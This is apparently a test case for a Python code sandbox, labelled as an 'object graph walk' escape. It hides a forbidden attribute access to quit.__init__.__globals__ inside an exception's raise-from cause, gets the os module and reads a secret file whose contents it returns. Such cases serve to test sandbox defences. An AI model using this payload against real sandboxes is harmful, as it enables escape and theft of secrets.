# class: object graph walk
# technique: a forbidden attribute in the cause of what is raised
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# witness: secret
host = _items[0]["json"]
try:
    raise KeyError() from ((g := quit.__init__.__globals__) and None)
except KeyError:
    pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
